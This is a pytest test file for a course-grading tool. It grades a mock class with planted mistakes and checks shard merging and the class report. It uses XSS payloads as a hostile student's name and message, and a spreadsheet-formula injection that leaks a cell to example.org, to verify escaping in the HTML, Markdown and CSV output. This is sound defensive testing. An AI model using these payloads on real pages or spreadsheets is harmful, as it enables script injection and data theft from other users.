"""Class tools: diagnoses, book sections, shards and merge, and the class report.

A class of eight is built from the reference with known planted mistakes (the
mutant catalogue), a stub module, a crash at import and a hostile student whose
folder name and message hold HTML. It is graded for real, in two shards and
whole, by ``mlpcourse grade --all``; the merged shards must equal the whole
run, and the report must count every planted mistake exactly as planted.
"""

import csv
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from mlpcourse.course.class_summary import summarize
from mlpcourse.course.classes import load_reports, parse_shard, shard_of
from mlpcourse.course.report import render_html, render_markdown
from mlpcourse.course.sections import BY_CHECK, BY_DIAGNOSIS, headings, section_for, slugify
from mlpcourse.grader.cases import course_cases
from mlpcourse.grader.checks import CHECKS
from mlpcourse.grader.diagnosis import diagnose, label

from .helpers import TOTAL
from .mutants.bugs import BUGS
from .mutants.submissions import (
    crash_at_import,
    endless_loop,
    failing,
    in_function,
    planted,
    stub,
    write_submission,
)

ROOT = Path(__file__).resolve().parents[2]
BOOK = ROOT / "book"
HOSTILE = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"


def bug(check: str, description: str):
    return planted(next(v for v in BUGS if (v.check, v.description) == (check, description)))


Z_ONE_MINUS_Z = bug("activations::sigmoid_prime", "z(1 − z)")
BIAS_SUM = bug("backprop_equations::bias_gradient", "sum")
NO_HALF = bug("gradient_descent::quadratic_cost", "no ½")
ASCENT = bug("gradient_descent::gd_step", "ascent")

#: The class: each student's edits.
CLASS = {
    "ada": [],
    "bob": [Z_ONE_MINUS_Z],
    "cy": [Z_ONE_MINUS_Z, BIAS_SUM],
    "dan": [BIAS_SUM],
    "eve": [NO_HALF, BIAS_SUM],
    "fay": [crash_at_import("neuron")],
    "gus": [stub("network"), ASCENT],
    HOSTILE: [
        in_function("activations::relu", "relu", f"raise ValueError({SCRIPT!r})", "crash"),
        endless_loop("activations::tanh", "tanh"),
    ],
}

#: Each planted mistake: its check, the diagnosis it must get, and how many students.
PLANTED = {
    ("activations::sigmoid_prime", "looks like z(1 − z) instead of σ(z)(1 − σ(z))"): 2,
    (
        "backprop_equations::bias_gradient",
        "m = 7 times too large: a sum instead of a mean over the batch",
    ): 3,
    ("gradient_descent::quadratic_cost", "the ½ is missing"): 1,
    ("gradient_descent::gd_step", "moved uphill: θ + α∇ instead of θ − α∇"): 1,
}
#: Every check of the class must pass or fail as planted, one endless loop aside: 20 s a check
#: is 5x the slowest (network::backprop: 3.8 s with both cores of 2 busy); the loop costs it.
LIMIT_OPTIONS = ["--check-timeout", "20", "--timeout", "120", "--memory", "1024"]


def mlpcourse(*arguments: str) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "mlpcourse.cli", *arguments]
    return subprocess.run(command, capture_output=True, text=True, cwd=ROOT)


# ---- diagnoses and sections (no grading) ---------------------------------------------------


@pytest.mark.parametrize(
    "message, expected",
    [
        ("f(x) is wrong: got 1, expected 2. Likely cause: the ½ is missing", "the ½ is missing"),
        (
            "ValueError: bad. Likely cause: w is a column (n, 1): w.T @ x (in f, m.py line 3: x)",
            "w is a column (n, 1): w.T @ x",
        ),
        (
            "g: wrong. Likely cause: a term is missing. More text. Likely cause: other",
            "a term is missing",
        ),
        ("not written yet (NotImplementedError): write sigmoid, line 4", "not written yet"),
        ("sigmoid did not finish within 3 s (an endless loop?)", "timed out"),
        ("mlpcourse/feedforward.py is missing from the submission", "missing file"),
        (
            "importing mlpcourse/neuron.py failed: RuntimeError: x (in <module>, a line 1)",
            "crashed at import: RuntimeError",
        ),
        (
            "KeyError: 'w' (in backprop, mlpcourse/network.py line 9: w = d['w'])",
            "crashed: KeyError",
        ),
        ("relu(z) modified its argument z: functions must leave ...", "modifies its argument"),
        ("relu(z) must return shape (1, 7); got (3,)", "wrong shape"),
        (f"{SCRIPT}: not an exception name", "wrong result"),
    ],
)
def test_a_message_gets_a_stable_diagnosis(message, expected):
    assert label(message) == expected
    assert diagnose({"passed": False, "message": message}) == expected
    assert diagnose({"passed": True, "message": ""}) is None


def test_waiting_is_a_diagnosis_of_its_own():
    test = {"passed": False, "message": "…", "waiting_on": ["activations.sigmoid", "x.y"]}
    assert diagnose(test) == "waiting on sigmoid"


def book_anchors() -> dict[str, set[str]]:
    """Each chapter page's heading anchors, from book/*.md."""
    return {p.stem: {slugify(h) for h in headings(p.read_text())} for p in BOOK.glob("*.md")}


def test_every_section_to_revisit_is_a_heading_of_the_book():
    anchors = book_anchors()
    assert set(BY_CHECK) == {c.id for c in CHECKS}
    for section in [*BY_CHECK.values(), *(s for _, s in BY_DIAGNOSIS)]:
        assert section.page in anchors, section
        assert section.anchor in anchors[section.page], (section, sorted(anchors[section.page]))


def test_slugs_are_those_of_the_built_book():
    assert slugify("BP2: the error of a layer from the next one") == (
        "bp2-the-error-of-a-layer-from-the-next-one"
    )
    assert slugify("GD, SGD and mini-batches") == "gd-sgd-and-mini-batches"
    assert slugify("Is the derivative right? Ask a finite difference") == (
        "is-the-derivative-right-ask-a-finite-difference"
    )
    text = "# Title\n```{code-cell}\n# a comment, not a heading\n```\n## BP1: the error\n"
    assert headings(text) == ["Title", "BP1: the error"]
    assert (
        section_for(
            "backprop_equations::bias_gradient",
            "m = 7 times too large: a sum instead of a mean over the batch",
        ).anchor
        == "from-one-example-to-a-batch-the-equations-vectorised"
    )
    assert (
        section_for(
            "gradient_descent::quadratic_cost", "a sum instead of a mean over the batch"
        ).anchor
        == "the-loss-is-a-mean-over-examples"
    )


def test_shards_are_stable_and_validated():
    names = [f"student{i:03d}" for i in range(300)]
    shards = [shard_of(n, 3) for n in names]
    assert set(shards) == {1, 2, 3} and all(60 < shards.count(i) < 140 for i in (1, 2, 3))
    assert shard_of("ada", 2) == shard_of("ada", 2) and shard_of("ada", 1) == 1
    assert parse_shard("2/5") == (2, 5)
    for text in ("0/3", "4/3", "1", "a/b", "1/0", ""):
        with pytest.raises(ValueError, match=r"--shard expects i/N with 1 ≤ i ≤ N, got"):
            parse_shard(text)
    result = mlpcourse("grade", str(ROOT), "--all", "--shard", "0/3")
    assert result.returncode == 2
    assert "--shard expects i/N with 1 ≤ i ≤ N, got '0/3'" in result.stderr


# ---- a class graded for real ---------------------------------------------------------------


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class, graded whole and in two shards (in parallel)."""
    tmp = tmp_path_factory.mktemp("class")
    klass = tmp / "class"
    for name, edits in CLASS.items():
        write_submission(klass / name, edits)
    runs = {
        "whole": ["--jobs", "2"],
        "shard1": ["--shard", "1/2", "--jobs", "1"],
        "shard2": ["--shard", "2/2", "--jobs", "1"],
    }
    command = [sys.executable, "-m", "mlpcourse.cli", "grade", str(klass), "--all", *LIMIT_OPTIONS]
    for group in (["shard1", "shard2"], ["whole"]):
        started = [
            subprocess.Popen(
                [*command, "--csv", str(tmp / f"{r}.csv"), "--json-dir", str(tmp / r), *runs[r]],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for r in group
        ]
        for process in started:
            _, err = process.communicate(timeout=900)  # a bound on a hang, not a speed
            assert process.returncode == 0, err
    return tmp


def test_shards_partition_the_class_and_merge_to_the_whole_run(graded):
    one, two = set(load_reports(graded / "shard1")), set(load_reports(graded / "shard2"))
    assert one | two == set(CLASS) and not one & two
    assert all(shard_of(name, 2) == 1 for name in one) and one and two
    merged = graded / "merged.csv"
    result = mlpcourse(
        "merge",
        *(str(graded / s) for s in ("shard1", "shard2")),
        "--csv",
        str(merged),
        "--json-dir",
        str(graded / "merged"),
        "--class",
        str(graded / "class"),
    )
    assert result.returncode == 0, result.stderr
    assert merged.read_text() == (graded / "whole.csv").read_text()
    assert settled(load_reports(graded / "merged")) == settled(load_reports(graded / "whole"))
    # Every report names the cases it was graded on: the course secret's variant.
    variants = {row["variant"] for row in csv.DictReader(io.StringIO(merged.read_text()))}
    assert variants == {course_cases().variant} and "published" not in variants


def settled(reports: dict) -> dict:
    """The reports, but for what the load decides: where a check ran out of time, whether the
    runner named the line it was on before the grader's deadline struck, or not."""
    stalled = re.compile(r"(did not finish within [\d.]+ s).*", re.DOTALL)
    return {
        name: {
            **report,
            "tests": [
                {k: stalled.sub(r"\1", v) if isinstance(v, str) else v for k, v in test.items()}
                for test in report["tests"]
            ],
        }
        for name, report in reports.items()
    }


def test_merge_flags_reports_graded_on_different_cases(graded, tmp_path):
    """Shards whose machines had different secrets: kept, but flagged (exit 1)."""
    other = tmp_path / "other"
    shutil.copytree(graded / "shard2", other)
    for path in other.glob("*.json"):
        report = json.loads(path.read_text())
        report["variant"] = "0123456789ab"
        path.write_text(json.dumps(report))
    csv_file = str(tmp_path / "m.csv")
    result = mlpcourse("merge", str(graded / "shard1"), str(other), "--csv", csv_file)
    assert result.returncode == 1
    assert "VARIANTS: the reports were graded on different cases" in result.stderr
    assert "0123456789ab" in result.stderr and "MLPCOURSE_SECRET" in result.stderr


def test_merge_reports_duplicates_conflicts_and_missing_students(graded, tmp_path):
    copy = tmp_path / "copy"
    shutil.copytree(graded / "shard1", copy)
    same = mlpcourse("merge", str(graded / "shard1"), str(copy), "--csv", str(tmp_path / "a.csv"))
    assert same.returncode == 0, same.stderr
    assert "duplicate (identical, kept once)" in same.stderr
    victim = sorted(load_reports(copy))[0]
    report = json.loads((copy / f"{victim}.json").read_text())
    report["score"] = report.get("score", 0) + 1
    (copy / f"{victim}.json").write_text(json.dumps(report))
    out = tmp_path / "b.csv"
    conflict = mlpcourse(
        "merge", str(graded / "shard1"), str(copy), str(graded / "shard2"), "--csv", str(out)
    )
    assert conflict.returncode == 1
    assert f"CONFLICT: {victim} has different reports" in conflict.stderr
    row = next(line for line in out.read_text().splitlines() if line.startswith(victim))
    assert "conflict: different reports" in row
    missing = mlpcourse(
        "merge",
        str(graded / "shard1"),
        "--csv",
        str(tmp_path / "c.csv"),
        "--class",
        str(graded / "class"),
    )
    assert missing.returncode == 1
    for name in load_reports(graded / "shard2"):
        assert f"MISSING: {name}" in missing.stderr
    assert len((tmp_path / "c.csv").read_text().splitlines()) == 1 + len(CLASS)


def test_the_report_counts_every_planted_mistake(graded):
    summary = summarize(load_reports(graded / "whole"))
    counted = {(d.check, d.label): len(d.students) for d in summary.diagnoses}
    assert counted == PLANTED
    assert [(d.check, d.label) for d in summary.top()] == sorted(
        PLANTED, key=lambda k: (-PLANTED[k], [c.id for c in CHECKS].index(k[0]))
    )[:3]
    expected_fails = {name: failing(edits) for name, edits in CLASS.items()}
    for rate in summary.functions:
        failed = sum(rate.check in fails for fails in expected_fails.values())
        assert (rate.passed, rate.graded) == (len(CLASS) - failed, len(CLASS)), rate
    network = next(c for c in summary.chapters if c.chapter == "06-backprop-algorithm")
    assert (network.complete, network.students) == (len(CLASS) - 1, len(CLASS))
    trouble = {(t.student, t.function, t.label) for t in summary.troubles}
    assert trouble == {
        *(
            ("fay", c.functions[0], "crashed at import: RuntimeError")
            for c in CHECKS
            if c.module == "neuron"
        ),
        (HOSTILE, "relu", "crashed: ValueError"),
        (HOSTILE, "tanh", "timed out"),
    }
    assert summary.scores["ada"] == summary.max_score


def test_the_report_page_is_self_contained_and_escapes_students(graded, tmp_path):
    reports = tmp_path / "reports"
    shutil.copytree(graded / "whole", reports)
    (reports / "broken.json").write_text("{not json")
    page, markdown = tmp_path / "report.html", tmp_path / "report.md"
    result = mlpcourse("report", str(reports), "--html", str(page), "--md", str(markdown))
    assert result.returncode == 0, result.stderr
    text = page.read_text()
    assert "What to re-teach on Monday" in text
    assert "<script" not in text and "<img src=x" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    for external in ("http://", "https://", "<link", "@import", "url("):
        assert external not in text
    assert text.count("data:image/png;base64,") == 3
    assert "05-backprop-equations.html#from-one-example-to-a-batch-the-equations-vectorised" in text
    assert "unreadable report broken.json" in text  # listed as could not be graded
    md = markdown.read_text()
    assert "<script" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "## What to re-teach on Monday" in md
    cases = f"/ {TOTAL:g}. Cases: {course_cases().variant}."  # the cases the class was graded on
    assert cases in text and cases in md


def test_a_class_with_nothing_graded_still_gets_a_report():
    summary = summarize({"zed": {"error": "conflict: <b>different</b> reports"}})
    assert summary.errors == {"zed": "conflict: <b>different</b> reports"} and not summary.scores
    page = render_html(summary)
    assert "conflict: &lt;b&gt;different&lt;/b&gt; reports" in page and "<b>different" not in page
    assert "No named mistake in this class." in page
    assert "No named mistake in this class." in render_markdown(summarize({}))


@pytest.mark.attack("harming a classmate or the instructor")
def test_the_grades_csv_runs_no_formula():
    """A folder named like a spreadsheet formula stays text in grades.csv."""
    from mlpcourse.course.classes import csv_text, row

    hostile = '=HYPERLINK("http://example.org/?"&A1,"grades")'
    lines = [row(hostile, {"error": "-1+1 crashed"}), row("ann", {"score": 45.0})]
    read = list(csv.DictReader(io.StringIO(csv_text(lines))))
    assert read[0]["student"] == "'" + hostile and read[0]["error"] == "'-1+1 crashed"
    assert read[1]["student"] == "ann" and read[1]["total"] == "45.0"
